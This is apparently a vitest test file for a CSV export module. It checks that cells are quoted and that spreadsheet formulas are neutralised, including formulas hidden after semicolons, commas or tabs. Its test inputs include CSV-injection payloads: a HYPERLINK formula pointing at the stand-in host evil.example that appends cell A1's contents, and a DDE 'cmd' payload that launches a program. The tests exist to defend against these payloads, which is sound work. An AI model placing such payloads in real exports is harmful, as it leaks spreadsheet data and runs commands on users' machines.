import { describe, expect, it } from "vitest";
import { csvCell, csvRow, neutraliseFormula } from "./csv";

/** Splits one CRLF-terminated record as RFC 4180 reads it (quotes protect separators and line breaks). */
function parseRecord(line: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const c = line[i];
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      cells.push(cell);
      cell = "";
    } else if (c === "\r" && line[i + 1] === "\n" && i + 2 === line.length) break;
    else cell += c;
  }
  cells.push(cell);
  return cells;
}

/** What a spreadsheet in a `;` (or tab) locale makes of a cell's text: it splits there too. */
const pieces = (text: string) => text.split(/[;,\t]/);

const FORMULA_START = /^[=+\-@\t\r]/;

describe("csvCell", () => {
  it("leaves plain text and empty values alone", () => {
    expect(csvCell("Billing sync")).toBe("Billing sync");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
    expect(csvCell(42)).toBe("42");
    expect(csvCell(new Date("2031-05-04T10:00:00.000Z"))).toBe("2031-05-04T10:00:00.000Z");
  });

  it.each([
    ["a comma", "a,b"],
    ["a semicolon", "a;b"],
    ["a tab", "a\tb"],
    ["a quote", 'say "hi"'],
    ["a carriage return", "a\rb"],
    ["a line feed", "a\nb"],
  ])("quotes a cell holding %s, and reads back as one cell", (_label, text) => {
    const cell = csvCell(text);
    expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
    expect(parseRecord(csvRow([text, "next"]))).toEqual([text, "next"]);
  });

  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\r=1", "'\r=1"],
    // The tab is a separator too: what follows it is a cell of its own.
    ["\t=1", "'\t'=1"],
  ])("prefixes a cell starting with a formula character: %j", (text, expected) => {
    expect(neutraliseFormula(text)).toBe(expected);
    expect(parseRecord(csvRow([text]))[0]).toBe(expected);
  });

  it.each([
    ["after a semicolon", 'Sync;=HYPERLINK("http://evil.example","x")'],
    ["after a comma", "Sync,=cmd|' /C calc'!A0"],
    ["after a tab", "Sync\t+1+1"],
    ["after a semicolon and spaces", "Sync;  @SUM(A1)"],
    ["at several places", "a;=1;b,-2\t@3"],
    ["after a separator at the start", ";=1"],
  ])("neutralises a formula hidden %s, where a ;-locale spreadsheet splits the cell", (_label, text) => {
    const cell = parseRecord(csvRow([text]))[0];
    // No piece a spreadsheet could cut the cell into starts a formula.
    for (const piece of pieces(cell)) expect(piece.trimStart(), JSON.stringify(cell)).not.toMatch(FORMULA_START);
    // Only apostrophes were added: the text is otherwise intact.
    expect(cell.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
  });

  it("keeps separators that are not followed by a formula character as they were", () => {
    expect(parseRecord(csvRow(["a; b, c\td"]))[0]).toBe("a; b, c\td");
    expect(parseRecord(csvRow(["2031-05-04; 10:00"]))[0]).toBe("2031-05-04; 10:00");
  });

  it("survives hostile key names in a whole row: the columns stay where they are", () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "a\r\nb,c", '"", ";=1', "@evil;+2", "-", "\t"];
    for (const name of hostile) {
      const cells = parseRecord(csvRow(["acme", name, "lk_AbCd1234…"]));
      expect(cells).toHaveLength(3);
      expect(cells[0]).toBe("acme");
      expect(cells[2]).toBe("lk_AbCd1234…");
      for (const piece of pieces(cells[1])) expect(piece.trimStart()).not.toMatch(FORMULA_START);
    }
  });
});
